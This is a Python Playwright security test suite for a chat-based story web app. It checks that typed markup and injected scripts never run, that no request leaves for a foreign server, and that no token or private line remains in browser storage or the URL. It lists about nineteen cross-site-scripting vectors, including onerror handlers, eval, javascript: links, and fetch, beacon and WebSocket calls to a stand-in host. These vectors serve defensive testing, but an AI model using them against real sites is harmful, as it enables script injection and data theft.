"""Strange input: texts like markup, scripts smuggled into the page, and data left in a browser: no script runs, no
address is fetched, no secret stays."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from random import Random

import pytest
import pytest_asyncio
from playwright.async_api import Browser, expect

from domain.command import Command
from domain.core.names import UNPRINTABLE
from domain.features.calls.decrees import Decree
from domain.features.scenes.chat import Say
from domain.features.scenes.create_character import CreateCharacter
from server.client.wire import socket_to
from tests.browser.person import Person
from tests.browser.table import SharedServer, Table
from tests.browser.vectors import vectors
from tests.server.whole_server import Client

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.xdist_group("browser")]

AT_ONCE = 16
"""The number of these words in one line of the story."""
NAME_MOST = 60
CANARY = "9c1d5f0ab37e46c2"
TAGS = [
    "A", "B", "BDI", "BR", "BUTTON", "DETAILS", "DIV", "EM", "FORM", "H2", "H3", "HEADER", "I", "INPUT", "LABEL", "LI",
    "OL", "OPTION", "P", "SECTION", "SELECT", "SMALL", "SPAN", "STRONG", "SUMMARY", "UL",
]  # fmt: skip
"""The elements that a story and a cast are drawn with; none of them runs a script or fetches an address by itself."""
FOUND = """
(tags) => [...document.querySelectorAll("[data-testid=story] *, [data-testid=cast] *, [data-testid=title] *")]
  .filter((one) =>
    !(tags.includes(one.tagName) || one.closest("svg[aria-hidden]")) ||
    [...one.attributes].some(({name}) => /^on|^src|^action$|^xlink|^style$/.test(name)) ||
    (one.tagName === "A" && !(
      /^https?:\\/\\//.test(one.getAttribute("href")) && one.rel === "noopener noreferrer" && one.username === "")))
  .map((one) => one.outerHTML)
"""
LINES = '() => [...document.querySelectorAll("[data-testid=line] .text")].map((line) => line.textContent)'
STORED = """
async () => JSON.stringify([
  {...localStorage}, {...sessionStorage}, await indexedDB.databases(), await caches.keys(), document.cookie,
  (await navigator.serviceWorker.getRegistrations()).length, location.href, document.documentElement.outerHTML,
])
"""
SMUGGLED = {
    "markup": "document.body.innerHTML = `<img src='//${there}/x' onerror='ran(1)'>`",
    "a written document": "document.write('<script>ran(1)</script>')",
    "the text of a script": "add('script', {textContent: 'ran(1)'})",
    "a node in a script": "add('script', {}).append('ran(1)')",
    "a script of others": "add('script', {src: `//${there}/x`})",
    "eval": "eval('ran(1)')",
    "a function of words": "new Function('ran(1)')()",
    "a timer of words": "setTimeout('ran(1)')",
    "a handler": "const p = add('p', {}); p.setAttribute('onclick', 'ran(1)'); p.click()",
    "an address": "add('a', {href: 'javascript:ran(1)'}).click()",
    "a picture of others": "add('img', {src: `//${there}/x`})",
    "a style of others": "document.body.style.backgroundImage = `url(//${there}/x)`",
    "a sheet of others": "add('link', {rel: 'stylesheet', href: `//${there}/x`})",
    "a frame": "add('iframe', {src: `//${there}/x`})",
    "a question to others": "fetch(`//${there}/x`).catch(() => {})",
    "a beacon": "navigator.sendBeacon(`//${there}/x`, 'x')",
    "a socket to others": "new WebSocket(`ws://${there}/x`)",
    "a form": "add('form', {action: `//${there}/x`}).submit()",
    "another policy": "trustedTypes.createPolicy('mine', {createHTML: (s) => s})",
}
"""Ways to get a script into a page."""
BY_ITSELF = """
(there) => {
  window.done = false;
  const add = (tag, properties) => {
    const one = Object.assign(document.createElement(tag), properties);
    document.body.append(one);
    return one;
  };
  setTimeout(() => {
    try { SCRIPT; } catch (error) { window.stopped = error.name; }
    setTimeout(() => { window.done = true; }, 100);
  });
}
"""
"""Runs a script as the page would: commands that a test gives a browser directly may do more."""


class Elsewhere:
    """A foreign server, which must receive no request."""

    def __init__(self) -> None:
        self.asked: list[bytes] = []

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.asked.append(await reader.read(1000))
        writer.close()


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere() -> AsyncIterator[tuple[str, Elsewhere]]:
    """The server's address and its requests; there must be none at the end."""
    it = Elsewhere()
    server = await asyncio.start_server(it.answer, "127.0.0.1", 0)
    yield f"127.0.0.1:{server.sockets[0].getsockname()[1]}", it
    server.close()
    await server.wait_closed()
    assert it.asked == []


@pytest_asyncio.fixture(loop_scope="session")
async def table(browser: Browser, shared: SharedServer, tmp_path: Path, chance: Random) -> AsyncIterator[Table]:
    """All are in the lobby."""
    async with shared.table(tmp_path, chance) as table:
        await table.gather(browser, "Low Water", rules="revised")
        yield table


async def watch(person: Person) -> None:
    """Let the page record whether a typed or smuggled script ran."""
    await person.page.evaluate("() => { window.hits = []; window.ran = (n) => window.hits.push(n); }")


async def ran(person: Person) -> list[int]:
    hits: list[int] = await person.page.evaluate("() => window.hits")
    return hits


async def send_from_second_tab(table: Table, person: Person, *commands: Command) -> None:
    """Send commands from a second tab of this person, as fast as they are answered."""
    url = f"ws://127.0.0.1:{table.servers[0].port}/ws"
    async with socket_to(url) as socket:
        tab = Client(socket)
        await tab.send("hello", await person.token(), table.scene, "", ())
        await tab.heard("options")
        for command in commands:
            answer = await tab.do(command)
            assert answer[0] == "accepted", answer


async def test_what_people_type_is_text(table: Table, elsewhere: tuple[str, Elsewhere], tmp_path: Path) -> None:
    """SEC20: 900 texts made of markup, as lines, narration and names, run no script and cause no foreign request; they
    become no element but emphasis and safe links, and a text without emphasis is shown as it was typed."""
    there, _ = elsewhere
    all_ = vectors(there)
    assert len(all_) > 900
    vera, anna, _ = table.people
    await table.begin_scene(all_[0][:NAME_MOST])
    for person in table.people:
        await watch(person)
    lines = ["\n".join(all_[n : n + AT_ONCE]) for n in range(0, len(all_), AT_ONCE)]
    nameable = (vector for vector in all_ if vector.strip() and not UNPRINTABLE.search(vector))
    names = [vector for vector in nameable if len(vector) <= NAME_MOST][:30]
    makes = [CreateCharacter(name, concept=name) for name in names]
    await send_from_second_tab(table, anna, *(Say(line) for line in lines))
    await send_from_second_tab(table, vera, *makes, *(Decree(name, True) for name in names))
    await anna.say(all_[0])
    for person in table.people:
        await table.wait_for_all(person)
        # Earlier lines are drawn on scrolling up; repeat it, since the page may be drawing the last ones at that
        # moment.
        async with asyncio.timeout(15):
            while len(await person.page.evaluate(LINES)) < len(lines) + len(makes):
                await person.see("story").press("Home")
        told: list[str] = await person.page.evaluate(LINES)
        assert await ran(person) == []
        assert await person.page.evaluate(FOUND, TAGS) == []
        assert any(all_[0] in line for line in told)
        plain = [v for v in all_ if not set(v) & set("*_[]{}\n\t\x00\x01") and "://" not in v]
        shown = "\n".join(told)
        assert [v for v in plain if v not in shown] == []
        assert len(person.origins) == 1
        assert person.troubles == []
    cast = vera.page.get_by_test_id("cast")
    await expect(cast.filter(has_text=names[-1])).to_have_count(1)


async def test_a_script_that_was_smuggled_in_does_not_run(table: Table, elsewhere: tuple[str, Elsewhere]) -> None:
    """SEC21: the content policy stops every smuggled script, and no foreign server receives a request."""
    there, _ = elsewhere
    anna = table.anna
    for way, script in SMUGGLED.items():
        await watch(anna)
        before = len(anna.troubles)
        await anna.page.evaluate(BY_ITSELF.replace("SCRIPT", script), there)
        await anna.page.wait_for_function("() => window.done")
        assert await ran(anna) == [], way
        stopped = await anna.page.evaluate("() => window.stopped")
        assert stopped or len(anna.troubles) > before, f"{way}: no error was reported"
        await anna.page.reload()
        await anna.at("lobby")


async def test_a_browser_keeps_no_key_and_nothing_secret(table: Table) -> None:
    """SEC4, SEC23: neither a link's secret nor a token is in a requested address, a Referer or the history. After a
    player has left or was removed, no token and no whispered line is in the browser's storage or the page, even if the
    browser was told to remember."""
    vera, _, ben = table.people
    for player in table.players:
        await vera.say(CANARY, to=player.name)
        await player.reads(CANARY)
        await player.click("menu")
        await player.see("remember").check()
    tokens = {person: await person.token() for person in table.people}
    for player in table.players:
        text = await player.page.evaluate(STORED)
        assert text.count(tokens[player]) == 2
        assert CANARY in text
    await ben.click("leave")
    seat = vera.page.get_by_test_id("seat").filter(has_text="Anna")
    await seat.get_by_role("button", name="Close").click()
    await seat.get_by_role("button", name="Really close").click()
    for player in table.players:
        await player.at("door")
        text = await player.page.evaluate(STORED)
        assert tokens[player] not in text
        assert CANARY not in text
        assert json.loads(text)[2:5] == [[], [], ""]
    for person in table.people:
        keys = (tokens[person], *person.secrets)
        assert len(keys) == 2
        assert person.addresses
        assert "#" not in person.page.url
        await person.page.go_back()
        places = [*person.addresses, person.page.url]
        assert not [place for place in places if any(key in place for key in keys)]
